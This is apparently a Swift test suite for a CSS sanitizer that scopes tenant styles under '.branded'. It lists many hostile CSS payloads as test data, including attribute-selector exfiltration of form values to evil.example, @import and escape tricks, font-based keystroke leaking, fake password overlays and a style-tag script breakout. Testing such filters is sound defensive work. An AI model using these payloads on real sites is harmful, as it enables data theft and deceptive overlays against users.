import HostTesting
import Model
import Testing

@testable import Tenancy

struct StyleFilterTests {
    @Test func `what is admitted is written anew within the scope`() {
        let filter = StyleFilter(
            """
            <!-- /* from an old page */
            H1, .card > p:hover { COLOR: #0B5CAD; margin: 0 auto 1.5rem; font-family: var(--font-heading) }
            @media (min-width: 40em) { .card { padding: clamp(1rem, 2vw, 3rem); background: linear-gradient(to right, red, var(--color-surface) 40%) } }
            """)
        #expect(filter.drops.isEmpty, "\(filter.drops)")
        #expect(
            filter.css == """
                .branded h1, .branded .card > p:hover { color: #0b5cad; margin: 0 auto 1.5rem; font-family: var(--font-heading); }
                @media ( min-width : 40em ) {
                .branded .card { padding: clamp(1rem, 2vw, 3rem); background: linear-gradient(to right, red, var(--color-surface) 40%); }
                }

                """)
    }

    private static let hostile: [(String, String)] = [
        ("address of a background", "p { background: url(https://evil.example/a) }"),
        ("address in quotes", #"p { background: url("https://evil.example/a") }"#),
        ("address by an escape", #"p { background: \75 rl(https://evil.example/a) }"#),
        ("attribute selector that reads a form", #"input[value^="a"] { background: url(//evil.example/a) }"#),
        ("attribute selector alone", "[data-key] { color: red }"),
        ("import", "@import url(//evil.example/a.css);"), ("import of a string", "@import '//evil.example/a.css';"),
        ("import by an escape", #"@\69 mport "//evil.example/a.css";"#), ("image set of strings", #"p { background: image-set("//evil.example/a" 1x) }"#),
        ("font that tells letters", "@font-face { font-family: x; src: url(//evil.example/A); unicode-range: U+0041 }"),
        ("overlay", "div { position: fixed; inset: 0; z-index: 9 }"), ("position by an escape", #"div { p\6fsition: fixed }"#),
        ("text of another's", #"p::before { content: "Your password:" }"#), ("content of an attribute", "p { content: attr(title) }"),
        ("expression", "p { width: expression(alert(1)) }"), ("binding", "p { -moz-binding: url(//evil.example/x.xml#a) }"),
        ("behaviour", "p { behavior: url(x.htc) }"), ("custom property", "p { --x: url(//evil.example) }"),
        ("variable that is no token", "p { color: var(--x) }"), ("fallback", "p { color: var(--color-text, url(x)) }"),
        ("negative margin", "p { margin-top: -9999px }"), ("far too large", "p { padding: 99999px }"), ("far too high", "p { line-height: 1000 }"), ("any state", ":focus { color: red }"),
        ("sum that escapes a bound", "p { padding: calc(1px * 99999) }"), ("hidden text", "p { display: none; visibility: hidden; opacity: 0 }"),
        ("moved away", "p { transform: translate(-999px) }"), ("pointer events", "p { pointer-events: none }"),
        ("cursor", "a { cursor: url(//evil.example/c), auto }"), ("filter", "p { filter: url(#x) }"),
        ("important", "p { color: red !important }"), ("the whole page", "html, body { color: red }"), ("everything", "* { color: red }"),
        ("what people type", "input { color: red }"), ("identity", "#main { color: red }"), ("beside the scope", ".branded { color: red }"),
        ("has", "p:has(a) { color: red }"), ("namespace", "svg|a { color: red }"), ("nested rule", "p { &:hover { color: red } }"),
        ("keyframes", "@keyframes x { from { color: red } }"), ("charset", #"@charset "utf-7";"#),
        ("supports with an address", "@supports (background: url(x)) { p { color: red } }"),
        ("media with an address", "@media url(x) { p { color: red } }"), ("unclosed string", "p { color: red; font-family: \"x }"),
        ("unclosed block", "p { color: red"), ("unclosed comment", "p { color: red /* } a { color: red }"),
        ("unclosed media", "@media print { p { color: red }"), ("unclosed function", "p { color: rgb(1, 2"),
        ("end of the style", "p { color: red</style><script>alert(1)</script> }"), ("brace in brackets", "p { color: [}] } "),
        ("numbers that a comment keeps apart", "p { line-height: 2/**/2; padding: 3/**/20px }"),
    ]

    @Test(arguments: hostile)
    func `no known trick gets through, and each is told`(name: String, text: String) {
        let filter = StyleFilter(text)
        Self.check(filter, name)
        #expect(!filter.drops.isEmpty || filter.css.contains("2 2"), "\(name): \(filter.css)")
    }

    @Test func `a drop names its line and its reason`() {
        let filter = StyleFilter("p { color: red;\n  position: fixed;\n  color: blue }\n@import 'x';\n#a { color: red }\n")
        #expect(filter.css == ".branded p { color: red; color: blue; }\n")
        #expect(filter.drops.map(\.line) == [2, 4, 5])
        #expect(filter.drops.map(\.reason) == [.property, .atRule("import"), .selector("#a")])
        #expect(filter.drops[0].what == "position: fixed")
    }

    @Test func `a byte order mark at the beginning is passed over, and elsewhere is no blank`() {
        #expect(StyleFilter("\u{FEFF}p { color: red }").css == ".branded p { color: red; }\n")
        #expect(StyleFilter("p\u{FEFF} { color: red }").css == "")
    }

    @Test func `what goes wrong takes no more with it than CSS says`() {
        #expect(StyleFilter("p { color: ( } ; ) ; color: red } a { color: blue }").css == ".branded p { color: red; }\n.branded a { color: blue; }\n")
        #expect(StyleFilter("@import x; a { color: blue }").css == ".branded a { color: blue; }\n")
        #expect(StyleFilter("@x { p { color: red } } a { color: blue }").css == ".branded a { color: blue; }\n")
        #expect(StyleFilter("} a { color: blue }").css == ".branded a { color: blue; }\n")
    }

    @Test func `drops and rules are bounded`() {
        let filter = StyleFilter(String(repeating: "p{x:y}", count: 5000))
        #expect(filter.drops.count == StyleFilter.mostDrops)
        #expect(filter.untold == 5000 - StyleFilter.mostDrops)
        #expect(StyleFilter(String(repeating: "p{color:red}", count: 5000)).css.count == 1000 * ".branded p { color: red; }\n".count)
    }

    @Test(arguments: ["(", "[", "{", "p{", "@media{", "url(", "/*", "\"", "\\", "a:", "rgb("])
    func `nothing that repeats without an end costs more than its length`(part: String) {
        let filter = StyleFilter(String(repeating: part, count: 60_000 / part.utf8.count))
        Self.check(filter, part)
    }

    /// Pieces of known tricks and of honest styles in any order: what comes out holds only what is admitted, and comes out
    /// of a second filter as it went in.
    @Test func `whatever comes in, what goes out is admitted`() {
        var generator = SeededGenerator(seed: 20_26)
        let pieces = Self.hostile.flatMap { Self.torn($0.1) }
            + ["p", ".a", "{", "}", "(", ")", ";", ":", ",", " ", "color", "red", "1px", "@media", "(min-width: 1px)", "/*", "*/", "\\", "\"", "'", "\n", "<!--", "-->", "--", "#fff", "var(", "--color-text", "!", "\u{0}", "é", "\u{FEFF}"]
        for _ in 0..<3000 {
            let text = (0..<Int.random(in: 1...40, using: &generator)).map { _ in pieces.randomElement(using: &generator) ?? "" }.joined()
            let filter = StyleFilter(text)
            Self.check(filter, text)
        }
    }

    private static func torn(_ text: String) -> [String] {
        text.split(separator: " ").map(String.init) + text.split(separator: "(").map { $0 + "(" }
    }

    private static func check(_ filter: StyleFilter, _ name: String) {
        let css = filter.css
        for word in ["url", "import", "\\", "\"", "'", "<", "[", "content", "position", "expression", "image-set", "@font", "--x", "!", "/*", "evil", "::", "calc", "-9"] {
            #expect(!css.contains(word), "\(name): \(css)")
        }
        #expect(css.utf8.allSatisfy { $0 < 0x80 }, "\(name): \(css)")
        for line in css.split(separator: "\n") where line != "}" && !line.hasPrefix("@media ") {
            #expect(line.hasPrefix(".branded ") && line.hasSuffix("; }"), "\(name): \(line)")
        }
        #expect(css.utf8.count { $0 == UInt8(ascii: "{") } == css.utf8.count { $0 == UInt8(ascii: "}") }, "\(name): \(css)")
        // Of a scope within the scope nothing is left, so that is taken off first.
        let again = StyleFilter(css.replacing(".branded ", with: ""))
        #expect(again.css == css && again.drops.isEmpty, "\(name): \(css) → \(again.css) \(again.drops)")
    }
}
